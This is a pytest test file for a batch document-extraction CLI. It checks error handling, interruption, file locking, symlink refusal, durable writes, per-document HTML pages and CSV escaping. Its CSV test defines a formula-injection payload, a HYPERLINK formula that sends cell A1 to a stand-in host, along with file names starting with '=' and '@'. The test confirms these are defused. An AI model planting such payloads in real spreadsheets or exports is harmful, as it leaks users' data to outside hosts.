"""A batch survives any document: what nobody foresaw is an error of that document, Ctrl-C ends it
at once, two runs on one file do not mix, and what is written is harmless and lasts."""

import csv
import errno
import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from gemma_edge.app import batch as pipeline
from gemma_edge.app.batch import Source, read_ahead
from gemma_edge.disk import holding
from gemma_edge.errors import ExitStatus, InputError
from tests.scripted import ScriptedEngine

ASK = ("--schema", "vendor, total num")
posix = pytest.mark.skipif(os.name == "nt", reason="names and signals of POSIX")


class Clerk(ScriptedEngine):
    """Reads the total that stands in the document; stumbles over the word `stumble`."""

    def generate(self, request):
        text = request.messages[0].text
        if "stumble" in text:
            raise LookupError("nobody\nforesaw \ud800 this")
        found = re.search(r"(?:Total \| |\b)(\d)(?:\.00)?\b", text)
        vendor = re.search(r"^Vendor: (.*)$", text, re.MULTILINE)
        answer = {"vendor": vendor[1] if vendor else "Acme", "total": int(found[1]) if found else 0}
        self.answers = [json.dumps(answer)]
        return super().generate(request)


@pytest.fixture
def bills(tmp_path):
    made = tmp_path / "bills"
    made.mkdir()
    for number, name in enumerate("adg", 1):
        (made / f"{name}.txt").write_text(f"Acme\nTotal {number}.00\n")
    return made


def lines(text: str):
    return [json.loads(line) for line in text.splitlines()]


def outcome(text: str):
    return {Path(each["file"]).name: each.get("error") or each["data"]["total"]
            for each in lines(text)}  # fmt: skip


# ----------------------------------------------------------------------------
# What nobody foresaw.


def test_a_bug_in_an_answer_is_one_line_and_the_rest_goes_on(shell, bills, tmp_path):
    (bills / "b.txt").write_text("stumble\n")
    shell.engine = Clerk()
    out = tmp_path / "out.jsonl"
    ran = shell.run("extract", str(bills), *ASK, "--out", str(out))
    assert ran.status == ExitStatus.FAILED
    found = outcome(out.read_text(encoding="utf-8"))
    assert [found[name] for name in ("a.txt", "d.txt", "g.txt")] == [1, 2, 3]
    assert found["b.txt"].startswith("a bug in gemma-edge: LookupError: nobody foresaw ? this at ")
    errors = [line for line in ran.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1 and "b.txt" in errors[0] and "test_batch_survives.py:" in errors[0]
    assert "Traceback" not in ran.stderr
    assert "1 failed" in ran.stderr.splitlines()[-1]
    again = shell.run("extract", str(bills), *ASK, "--out", str(out))  # told once, tried again
    assert again.status == ExitStatus.FAILED and "3 done before" in again.stderr


def test_a_developer_sees_where(shell, bills):
    (bills / "b.txt").write_text("stumble\n")
    shell.engine = Clerk()
    ran = shell.run("extract", str(bills), *ASK, environment={"GEMMA_EDGE_DEBUG": "1"})
    assert "Traceback" in ran.stderr and "in generate" in ran.stderr
    assert len(outcome(ran.stdout)) == 4


def test_a_bug_in_reading_is_one_line_and_the_rest_goes_on(shell, bills, monkeypatch):
    def stumble(data, name, **more):
        if name.endswith("d.txt"):
            raise RecursionError
        return reading(data, name, **more)

    from gemma_edge.app import extract  # noqa: PLC0415

    reading = extract.read_document
    monkeypatch.setattr(extract, "read_document", stumble)
    shell.engine = Clerk()
    ran = shell.run("extract", str(bills), *ASK)
    assert ran.status == ExitStatus.FAILED
    found = outcome(ran.stdout)
    assert (found["a.txt"], found["g.txt"]) == (1, 3)
    assert "RecursionError: no message" in found["d.txt"]


def test_a_bug_in_loading_is_no_error_of_each_document(shell, bills):
    def refuse(_plan):
        raise LookupError("no model, and nobody knows why")

    ran = shell.run("extract", str(bills), *ASK, load=refuse)
    assert ran.status == ExitStatus.FAILED
    assert ran.stdout == ""
    assert ran.stderr.count("a bug in gemma-edge") == 1


def test_a_full_disk_ends_the_batch(shell, bills, tmp_path, monkeypatch):
    """What is wrong with all documents is no error of each."""

    def refuse(_number, _data, **_more):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pipeline, "append", refuse)
    engine = shell.engine = Clerk()
    ran = shell.run("extract", str(bills), *ASK, "--out", str(tmp_path / "out.jsonl"))
    assert ran.status == ExitStatus.DOES_NOT_FIT
    assert ran.stderr.count("cannot be written (No space left on device)") == 1
    assert len(engine.requests) == 1


@posix
def test_one_name_that_is_too_long_for_what_stands_beside_it(shell, bills):
    (bills / f"b{'x' * 245}.txt").write_text("Total 9.00\n")
    shell.engine = Clerk()
    ran = shell.run("extract", str(bills), *ASK, "--evidence", "sidecar")
    assert ran.status == ExitStatus.DOES_NOT_FIT
    assert len(list(bills.glob("*.evidence.json"))) == 3
    assert sum("error" in each for each in lines(ran.stdout)) == 1


HOSTILE = {
    "blank.csv": b"\n" * 25 + b"Acme,Total\n,2.00\n",
    "wide.csv": b"x;y\n" + b"z" * 70_000 + b";1\n",
    "quotes.csv": b'"' * 1001 + b",\n",
    "powers.txt": "Date: 12 March \u00b2\u00b2\u00b2\u00b2\nTotal 1\u00b2\n".encode(),
    "circled.txt": "\u2460\u2461 May \u2460\u2461\u2462\u2463, \u0661.\u0663.\u0664\n".encode(),
    "long.txt": b"Total " + b"9" * 5000 + b"\n",
    "half.html": b"<p>&#xd800; &#55357; Total 4.00</p>",
    "half.txt": "Total 5.00 \ud800\n".encode("utf-16-le", "surrogatepass"),
    "mail.eml": b"From: a\nSubject: =?utf-8?b?7aCA?=\nMessage-ID: 1\n\n\xed\xa0\x80 Total 6.00\n",
}  # fmt: skip


def test_known_ways_to_end_a_batch(shell, bills, tmp_path):
    for name, data in HOSTILE.items():
        (bills / name).write_bytes(data)
    shell.engine = Clerk()
    out = tmp_path / "out.jsonl"
    schema = "vendor, date: date, total num, amount: amount"
    ran = shell.run("extract", str(bills), "--schema", schema, "--out", str(out),
                    "--evidence", "inline")  # fmt: skip
    assert "bug" not in ran.stderr, ran.stderr
    found = outcome(out.read_text(encoding="utf-8"))
    assert found.keys() == {*HOSTILE, "a.txt", "d.txt", "g.txt"}
    assert found["g.txt"] == 3
    assert found["half.txt"] == 5  # of half a character a note says that it was lost
    assert not [name for name, said in found.items() if isinstance(said, str)]


@posix
def test_names_that_are_no_text(shell, bills, tmp_path):
    for name in (b"\xff.txt", b"\xfe.txt", b"=1+1.txt", b"-\n.txt"):
        Path(os.fsdecode(os.fsencode(bills) + b"/" + name)).write_text("Total 4.00\n")
    for form in ("jsonl", "csv", "md", "db"):
        shell.engine = Clerk()
        out = tmp_path / f"out.{form}"
        ran = shell.run("extract", str(bills), *ASK, "--out", str(out), "--html",
                        str(tmp_path / form))  # fmt: skip
        assert ran.status == 0, ran.stderr
        assert "7 documents extracted" in ran.stderr
        assert len(list((tmp_path / form).iterdir())) == 7


# ----------------------------------------------------------------------------
# Ctrl-C, and a document that hangs.


def test_nobody_waits_for_what_is_read_ahead():
    stuck = threading.Event()

    def read(source):
        if source.name != "0":
            stuck.wait(60)
        return source.name

    started = time.monotonic()
    with pytest.raises(KeyboardInterrupt):
        for _, content in read_ahead(read, [Source(str(n)) for n in range(5)], 3):
            assert content() == "0"
            raise KeyboardInterrupt
    assert time.monotonic() - started < 20
    stuck.set()


def test_one_that_hangs_is_left_alone():
    stuck = threading.Event()

    def read(source):
        if source.name == "1":
            stuck.wait(60)
        return source.name

    found = []
    for _, content in read_ahead(read, [Source(str(n)) for n in range(4)], 2, seconds=0.5):
        try:
            found.append(content())
        except InputError as error:
            found.append(error.message)
    assert [found[0], *found[2:]] == ["0", "2", "3"]
    assert found[1].startswith("1 was not read within")
    stuck.set()
    assert pipeline.READ_SECONDS >= 600


STUCK = """
import sys, time
from gemma_edge.app import extract
reading = extract.read_document

def stick(data, name, **more):
    if name.endswith("b.txt"):
        print("stuck", file=sys.stderr, flush=True)
        time.sleep(300)
    return reading(data, name, **more)

extract.read_document = stick
from gemma_edge.cli.main import run
sys.argv[1:] = ["extract", sys.argv[1], "--schema", "vendor", "-m", "demo", "--out", sys.argv[2]]
run()
"""


@posix
def test_ctrl_c_while_a_document_hangs_keeps_what_is_done(bills, tmp_path):
    (bills / "b.txt").write_text("Total 9.00\n")
    out = tmp_path / "out.jsonl"
    environment = {**os.environ, "HOME": str(tmp_path), "XDG_DATA_HOME": str(tmp_path / "data"),
                   "GEMMA_EDGE_OFFLINE": "1"}  # fmt: skip
    running = subprocess.Popen(
        [sys.executable, "-c", STUCK, str(bills), str(out)], env=environment, text=True,
        stderr=subprocess.PIPE, stdout=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 240
        while not (out.exists() and out.read_bytes().endswith(b"\n")):
            assert running.poll() is None and time.monotonic() < deadline
            time.sleep(0.2)
        time.sleep(1)
        running.send_signal(signal.SIGINT)
        started = time.monotonic()
        _, said = running.communicate(timeout=60)
        assert time.monotonic() - started < 30
        assert running.returncode == ExitStatus.INTERRUPTED, said
        assert "Traceback" not in said
        found = [Path(each["file"]).name for each in lines(out.read_text())]
        assert found[0] == "a.txt"  # what was answered behind it at once is kept, too
        assert "b.txt" not in found
        assert not list((tmp_path / "data" / "gemma-edge" / "writing").iterdir())
    finally:
        running.kill()


# ----------------------------------------------------------------------------
# Two runs on one file; what is promised to be on the disk.


@pytest.mark.parametrize("name", ["out.jsonl", "out.csv", "out.md", "out.db"])
def test_another_run_is_named_and_nothing_is_touched(shell, bills, tmp_path, name):
    out = tmp_path / name
    seen = []

    class Second(Clerk):
        def generate(self, request):
            if not seen:
                before = out.read_bytes()
                seen.append(shell.run("extract", str(bills), *ASK, "--out", str(out)))
                assert out.read_bytes() == before
            return super().generate(request)

    shell.engine = Second()
    first = shell.run("extract", str(bills), *ASK, "--out", str(out))
    assert first.status == 0, first.stderr
    (second,) = seen
    assert second.status == ExitStatus.INPUT
    assert re.search(
        rf"{re.escape(name)} \(process {os.getpid()}, since \d\d:\d\d\)", second.stderr
    )
    assert "hint: " in second.stderr
    shell.engine = Clerk()  # nothing is left of the lock
    assert "3 done before" in shell.run("extract", str(bills), *ASK, "--out", str(out)).stderr


@posix
@pytest.mark.parametrize("name", ["out.jsonl", "out.csv"])
def test_another_run_with_another_data_folder_is_noticed(shell, bills, tmp_path, name):
    out = tmp_path / name
    seen = []

    class Second(Clerk):
        def generate(self, request):
            if not seen:
                world = {"environment": {"XDG_DATA_HOME": str(tmp_path / "other")}}
                seen.append(shell.run("extract", str(bills), *ASK, "--out", str(out), **world))
            return super().generate(request)

    shell.engine = Second()
    assert shell.run("extract", str(bills), *ASK, "--out", str(out)).status == 0
    assert seen[0].status == ExitStatus.INPUT
    assert f"another run is writing {out}, with a data folder of its own" in seen[0].stderr


def test_a_lock_of_the_dead_is_none(tmp_path):
    path = tmp_path / "locks" / "a.lock"
    path.parent.mkdir()
    path.write_text("process 1, since 12:00")
    with holding(path, "me"):
        assert path.read_text() == "me"
    assert not path.exists()


@posix
def test_answers_are_not_written_through_a_link(shell, bills, tmp_path):
    mine = tmp_path / "mine"
    for out in (tmp_path / "out.jsonl", tmp_path / "out.db"):
        out.symlink_to(mine)
        shell.engine = Clerk()
        ran = shell.run("extract", str(bills), *ASK, "--out", str(out))
        assert ran.status == ExitStatus.INPUT
        assert "is a link to" in ran.stderr and f"hint: --out {mine}" in ran.stderr
        assert not mine.exists()
    ran = shell.run("extract", str(bills), *ASK, "--out", "/dev/stdout")
    assert "hint: without --out the answers go to stdout" in ran.stderr


def test_each_record_is_on_the_disk_before_the_next_is_asked_for(
    shell, bills, tmp_path, monkeypatch
):
    synced, told = [], []
    really = os.fsync
    monkeypatch.setattr(os, "fsync", lambda number: (synced.append(number), really(number))[1])

    class Counting(Clerk):
        def generate(self, request):
            told.append(len(synced))
            return super().generate(request)

    shell.engine = Counting()
    shell.run("extract", str(bills), *ASK, "--out", str(tmp_path / "out.jsonl"))
    assert told == sorted(set(told)) and len(told) == 3
    assert len(synced) > told[-1]


# ----------------------------------------------------------------------------
# CSV for spreadsheets.


EVIL = '=HYPERLINK("http://x.test/?"&A1;"click")'


def table(text: str):
    return list(csv.reader(io.StringIO(text)))


def test_formulas_from_documents_and_names_are_harmless(shell, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    os_names = ["=1+1.txt", "@a.txt", "a.txt"]
    for name in os_names:
        (folder / name).write_text(f"Vendor: {EVIL}\nTotal 5.00\n")
    here = os.getcwd()
    try:
        os.chdir(folder)
        shell.engine = Clerk()
        out = tmp_path / "out.csv"
        ask = ("extract", *os_names, *ASK, "--out", str(out))
        ran = shell.run(*ask)
        assert ran.status in (0, ExitStatus.RESULT), ran.stderr
        head, *rows = table(out.read_text(encoding="utf-8"))
        assert [dict(zip(head, row, strict=True))["file"] for row in rows] == [
            "'=1+1.txt", "'@a.txt", "a.txt",
        ]  # fmt: skip
        assert all(dict(zip(head, row, strict=True))["vendor"] == f"'{EVIL}" for row in rows)
        assert not any(cell.startswith(tuple("=+-@\t\r")) for row in rows for cell in row)
        assert "3 done before" in shell.run(*ask).stderr
        raw = shell.run("extract", *os_names, *ASK, "--format", "csv", "--raw-cells")
        assert table(raw.stdout)[1][:1] == ["=1+1.txt"] and EVIL in table(raw.stdout)[1]
    finally:
        os.chdir(here)


# ----------------------------------------------------------------------------
# Pages for a review in one folder.


def reviews(shell, folder, *files):
    shell.engine = Clerk()
    ran = shell.run("extract", *map(str, files), *ASK, "--html", str(folder))
    assert ran.status == 0, ran.stderr
    pages = {path.name: path.read_text(encoding="utf-8") for path in folder.iterdir()}
    plain = {name: re.sub("<[^>]*>", "", page) for name, page in pages.items()}
    return {name: re.findall(r"Total (\d)", page)[0] for name, page in plain.items()}


def test_each_document_has_a_page_of_its_own(shell, tmp_path):
    names = ("a/bill.txt", "b/bill.txt", "c/Bill.TXT", "c/con.txt", "c/other.txt")
    for number, name in enumerate(names, 1):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(f"Total {number}.00\n")
    files = [tmp_path / name for name in names]
    found = reviews(shell, tmp_path / "out", *files)
    assert sorted(found.values()) == ["1", "2", "3", "4", "5"]
    assert len({name.casefold() for name in found}) == 5
    assert found["other.txt.html"] == "5" and found["_con.txt.html"] == "4"
    assert reviews(shell, tmp_path / "out", *files) == found  # the same again
    assert reviews(shell, tmp_path / "new", *reversed(files)) == found


def test_a_page_does_not_take_the_place_of_one_about_another_document(shell, tmp_path):
    for number, name in enumerate("ab", 1):
        (tmp_path / name).mkdir()
        for each in ("bill.txt", "x.txt"):
            (tmp_path / name / each).write_text(f"Total {number}.00\n")
    pages = tmp_path / "out"
    reviews(shell, pages, tmp_path / "a" / "bill.txt", tmp_path / "a" / "x.txt")
    found = reviews(shell, pages, tmp_path / "b" / "bill.txt", tmp_path / "b" / "x.txt")
    assert sorted(found.values()) == ["1", "1", "2", "2"]
    assert (found["bill.txt.html"], found["x.txt.html"]) == ("1", "1")
    assert reviews(shell, pages, tmp_path / "b" / "bill.txt", tmp_path / "b" / "x.txt") == found
